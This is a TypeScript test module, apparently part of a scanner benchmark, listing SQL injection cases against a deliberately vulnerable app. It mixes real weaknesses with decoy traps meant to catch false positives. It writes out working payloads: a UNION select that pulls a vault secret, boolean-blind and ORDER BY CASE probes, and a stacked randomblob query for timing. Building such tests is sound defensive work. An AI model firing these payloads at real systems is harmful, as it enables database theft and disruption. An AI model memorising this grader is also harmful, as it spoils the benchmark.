import { listModule, trap, weakness } from '../listed.ts'
import { measure, q } from './payloads.ts'

const union = q(`%' union select secret, 1 from vault --`)
const order = (condition: string) => q(`case when ${condition} then name else detail end`)

export const searchList = listModule('search', [
  weakness(['sql-injection', 'GET /search', 'q', 'LIKE, with the message of the database'], async ({ get }) =>
    (await get(`/search?q=${union}`)).text.includes('the-key-of-the-vault'),
  ),
  weakness(['sql-injection', 'GET /directory', 'sort', 'ORDER BY, without a message'], async ({ get }) => {
    const [one, other] = [
      await get(`/directory?sort=${order('1=1')}`),
      await get(`/directory?sort=${order('1=2')}`),
    ]
    return one.status === 200 && one.text !== other.text
  }),
  weakness(['sql-injection', 'GET /permits', 'id', 'a number, blind'], async ({ get }) => {
    const [one, other] = [
      await get(`/permits?id=${q('1 and 1=1')}`),
      await get(`/permits?id=${q('1 and 1=2')}`),
    ]
    return one.text.includes('garage') && !other.text.includes('garage')
  }),
  trap(['sql-injection', 'GET /directory', 'dir', 'desc or anything else'], async ({ get }) => {
    const [one, other] = [
      await get('/directory?dir=asc'),
      await get(`/directory?dir=${q('asc, (select 1 from nowhere)')}`),
    ]
    return one.text !== other.text
  }),
  trap(['sql-injection', 'GET /streets', 'name', 'bound'], async ({ get }) =>
    (await get(`/streets?name=${union}`)).text.includes('the-key'),
  ),
  trap(['sql-injection', 'GET /library', 'words', 'no database; quotes divide words'], async ({ get }) => {
    const [quoted, plain] = [
      await get(`/library?words=${q("river' or '1'='1")}`),
      await get('/library?words=river'),
    ]
    // The quote changes the page, but never shows unmatched rows.
    return quoted.text.includes('the old bridge') || quoted.text === plain.text
  }),
  trap(['sql-injection', 'GET /library/archive', 'year', 'slow whatever is sent'], async ({ get }) => {
    const plain = await measure(() => get('/library/archive?year=1950'))
    const attacked = await measure(() =>
      get(`/library/archive?year=${q('1950;select randomblob(500000000)')}`),
    )
    return attacked > plain + 500
  }),
  trap(
    ['sql-injection', 'GET /courses', 'level', 'speaks of SQL errors always'],
    async ({ get }) => (await get(`/courses?level=${q("'")}`)).text !== (await get('/courses?level=x')).text,
  ),
  trap(
    ['sql-injection', 'GET /permits/paper', 'id', 'read as a number, so "2 and 1=2" is 2'],
    async ({ get }) =>
      (await get(`/permits/paper?id=${q('2 and 1=2')}`)).text !== (await get('/permits/paper?id=2')).text,
  ),
])
